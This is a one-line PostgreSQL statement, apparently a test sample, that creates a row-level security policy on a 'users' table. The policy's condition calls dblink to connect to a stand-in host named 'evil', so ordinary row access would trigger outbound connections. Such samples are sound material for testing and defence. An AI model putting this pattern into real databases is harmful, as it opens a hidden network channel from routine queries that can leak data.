CREATE POLICY p ON users USING ((SELECT count(*) FROM dblink('host=evil', 'select 1') AS t(a int)) > 0);
